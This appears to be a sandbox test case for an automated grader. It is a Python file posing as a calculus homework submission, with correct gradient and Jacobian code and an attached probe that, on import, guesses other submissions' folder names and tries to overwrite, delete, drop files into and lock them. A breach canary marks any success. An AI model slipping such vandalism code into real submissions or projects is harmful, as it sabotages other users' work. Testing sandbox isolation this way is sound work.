"""probe_a case rw_folder_guess_py (reach_workers, python): hw2_compgraph calculus.py.

Without listing anything, guesses sibling folder names from its own (digits +-1..20, victim_*,
worker*), then writes/chmods/removes in them; at least one write into a guessed path is always
attempted and refused by the hook ("What a worker is denied, at the Python level ...: reading
outside its submission and the Python installation, writing outside its own temporary folder,
starting processes, sending signals, opening sockets, loading native libraries through ctypes"):
sandbox, 20. Victims are checked by the harness; this entry is the attacker's own row. If a
forbidden step ever succeeds the case raises in every graded function (breach canary), so a silent
breach shows as lost points.
"""

import numpy as np

# ---- probe_a prelude: attack bookkeeping, never raises ----
import os as _pa_os
import sys as _pa_sys
import time as _pa_time

_PA_CASE = 'rw_folder_guess_py'
_PA_LOG = []
_PA_BREACHES = []
_PA_KEEP = []


def _pa_note(label, status, detail=""):
    try:
        _PA_LOG.append((round(_pa_time.monotonic(), 3), str(label), status, str(detail)[:300]))
    except BaseException:
        pass


def _pa_breach(what):
    """A step the documentation says is refused has succeeded."""
    _PA_BREACHES.append(str(what))
    _pa_note("BREACH", "breach", what)
    try:
        fh = open(_pa_os.path.join(_pa_os.getcwd(), "probe_a_BREACH"), "a")
        try:
            fh.write("%s: %s\n" % (_PA_CASE, what))
        finally:
            fh.close()
    except BaseException:
        pass


def _pa_spoiled():
    if _PA_BREACHES:
        return True
    try:
        for _n, _m in list(_pa_sys.modules.items()):
            if _n.endswith(("calculus", "compgraph")) and getattr(_m, "_PA_BREACHES", None):
                return True
    except BaseException:
        pass
    try:
        return _pa_os.path.exists(_pa_os.path.join(_pa_os.getcwd(), "probe_a_BREACH"))
    except BaseException:
        return False


def _pa_try(label, fn, *args, **kwargs):
    """Run one attack step; a refusal (any exception) is logged and swallowed."""
    try:
        r = fn(*args, **kwargs)
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "refused", repr(e))
        return e
    _pa_note(label, "ok", repr(r)[:200])
    return r


def _pa_ok(r):
    return not isinstance(r, BaseException)


_PA_TMP_ROOTS = ("/tmp", "/var/tmp", "/dev/shm")


def _pa_safe_dir(p):
    """True only for folders strictly inside /tmp, /var/tmp or /dev/shm (grader-made
    temporary folders): the only places a destructive step is ever aimed at."""
    try:
        rp = _pa_os.path.realpath(p)
    except BaseException:
        return False
    for root in _PA_TMP_ROOTS:
        if rp.startswith(root + "/"):
            rest = rp[len(root) + 1:]
            first = rest.split("/")[0]
            if rest and not first.startswith(("probe_brief", "bash_jobs", ".X11", "systemd")):
                return True
    return False


def _pa_deadline(seconds):
    end = _pa_time.monotonic() + seconds
    return lambda: _pa_time.monotonic() < end

# --- probe_a honest code begin ---
def grad_f(x, y):
    """Gradient [df/dx, df/dy] of f(x, y) = (2x + 3y)^2, shape (2,)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    y = float(np.asarray(y, dtype=float).reshape(()))
    t = 2.0 * (2.0 * x + 3.0 * y)
    return np.array([2.0 * t, 3.0 * t])


def jacobian_F(x, y):
    """Jacobian of F(x, y) = [x^2 + 2y, 3x + 4y^2], shape (2, 2)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    y = float(np.asarray(y, dtype=float).reshape(()))
    return np.array([[2.0 * x, 2.0], [3.0, 8.0 * y]])


def G(x):
    """G(x) = [x, x^2], shape (2,)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    return np.array([x, x * x])


def jacobian_FG(x):
    """D(F o G)(x) = DF(G(x)) . DG(x), shape (2,)."""
    x = float(np.asarray(x, dtype=float).reshape(()))
    u, w = x, x * x
    DF = np.array([[2.0 * u, 2.0], [3.0, 8.0 * w]])
    DG = np.array([1.0, 2.0 * x])
    return DF @ DG


def _scalar(value):
    a = np.asarray(value, dtype=float)
    if a.size != 1:
        raise ValueError("f must return a scalar, got shape %r" % (a.shape,))
    return float(a.reshape(-1)[0])


def numerical_gradient(f, x, eps=1e-6):
    """Central-difference gradient of a scalar function f at the array x (same shape as x)."""
    x = np.array(x, dtype=float)
    g = np.zeros_like(x)
    for idx in np.ndindex(x.shape):
        xp = x.copy()
        xm = x.copy()
        xp[idx] += eps
        xm[idx] -= eps
        g[idx] = (_scalar(f(xp)) - _scalar(f(xm))) / (2.0 * eps)
    return g


def numerical_jacobian(F, x, eps=1e-6):
    """Central-difference Jacobian of a vector function F at the 1-D array x: (len(F(x)), len(x))."""
    x = np.array(x, dtype=float).reshape(-1)
    m = np.asarray(F(x.copy()), dtype=float).reshape(-1).size
    J = np.zeros((m, x.size))
    for k in range(x.size):
        xp = x.copy()
        xm = x.copy()
        xp[k] += eps
        xm[k] -= eps
        J[:, k] = (np.asarray(F(xp), dtype=float).reshape(-1) - np.asarray(F(xm), dtype=float).reshape(-1)) / (2.0 * eps)
    return J
# --- probe_a honest code end ---


# ---- probe_a attack ----
def _pa_write_text(p, text):
    with open(p, "w") as fh:
        fh.write(text)


def _pa_is_submission(d):
    return _pa_os.path.isfile(_pa_os.path.join(d, "compgraph.py")) or \
        _pa_os.path.isfile(_pa_os.path.join(d, "calculus.py"))


def _pa_candidates(parent, names):
    """Sibling folders that hold another submission (compgraph.py or calculus.py)."""
    own = _pa_os.path.realpath(_pa_os.getcwd())
    out = []
    for n in names:
        d = _pa_os.path.join(parent, n)
        try:
            rd = _pa_os.path.realpath(d)
        except BaseException:
            continue
        if rd == own or own.startswith(rd + "/") or rd.startswith(own + "/"):
            continue
        if _pa_os.path.isdir(d) and _pa_is_submission(d):
            out.append(d)
    return out


def _pa_vandalise(d):
    """Damage another submission's folder; only ever inside /tmp, /var/tmp, /dev/shm."""
    if not _pa_safe_dir(d) or not _pa_is_submission(d):
        _pa_note("vandalise", "skipped (not a grader temp submission folder)", d)
        return
    for fn in ("compgraph.py", "calculus.py"):
        p = _pa_os.path.join(d, fn)
        if _pa_os.path.exists(p) and _pa_ok(_pa_try("overwrite " + p, _pa_write_text, p,
                                                   "raise SystemExit('probe_a vandal')\n")):
            _pa_breach("overwrote " + p)
    p = _pa_os.path.join(d, "probe_a_vandal.txt")
    if _pa_ok(_pa_try("drop " + p, _pa_write_text, p, "probe_a\n")):
        _pa_breach("wrote " + p)
    p = _pa_os.path.join(d, "calculus.py")
    if _pa_os.path.exists(p) and _pa_ok(_pa_try("remove " + p, _pa_os.remove, p)):
        _pa_breach("removed " + p)
    if _pa_ok(_pa_try("chmod 000 " + d, _pa_os.chmod, d, 0)):
        _pa_breach("chmod 000 " + d)

def _pa_guesses():
    import re
    own = _pa_os.path.realpath(_pa_os.getcwd())
    parts = own.split("/")
    victims = ["victim_%d" % i for i in range(0, 13)] + ["victim_%s" % c for c in "abcdefgh"] + \
        ["victim", "victim_correct", "victim_honest", "victim_ok", "victim_1_hw2", "victims"]
    out = []
    for level in range(1, min(4, len(parts) - 1)):
        idx = len(parts) - level
        comp = parts[idx]
        alts = []
        for m in re.finditer(r"\d+", comp):
            v = int(m.group())
            for k in range(-20, 21):
                if k and v + k >= 0:
                    alts.append(comp[:m.start()] + str(v + k) + comp[m.end():])
        if _PA_CASE in comp:
            alts += [comp.replace(_PA_CASE, vn) for vn in victims]
        if level <= 2:
            alts += victims
        for a in alts:
            g = "/".join(parts[:idx] + [a] + parts[idx + 1:])
            if g not in out and g != own:
                out.append(g)
    return out


def _pa_attack():
    parent = _pa_os.path.dirname(_pa_os.path.realpath(_pa_os.getcwd()))
    # one write into a guessed sibling is always attempted (refused even if it does not exist)
    first = _pa_os.path.join(parent, "victim_1", "probe_a_guess.txt")
    if _pa_ok(_pa_try("write guessed " + first, _pa_write_text, first, "probe_a\n")):
        _pa_breach("wrote " + first)
    guesses = _pa_try("guess names", _pa_guesses)
    if not _pa_ok(guesses):
        return
    alive = _pa_deadline(3.0)
    for g in guesses[:600]:
        if not alive():
            break
        if _pa_os.path.isdir(g) and _pa_is_submission(g):
            _pa_vandalise(g)


_pa_try("attack", _pa_attack)


# ---- probe_a breach canary: a forbidden step that succeeded costs the points ----
def _pa_guard(names):
    import functools
    g = globals()
    for n in names:
        f = g.get(n)
        if not callable(f):
            continue

        def make(f, n):
            @functools.wraps(f)
            def wrapper(*args, **kwargs):
                if _pa_spoiled():
                    raise RuntimeError("probe_a breach canary (%s): a step the docs say is refused "
                                       "succeeded: %s" % (_PA_CASE, "; ".join(_PA_BREACHES) or "see probe_a_BREACH"))
                return f(*args, **kwargs)
            return wrapper
        g[n] = make(f, n)


_pa_guard(['grad_f', 'jacobian_F', 'G', 'jacobian_FG', 'numerical_gradient', 'numerical_jacobian'])
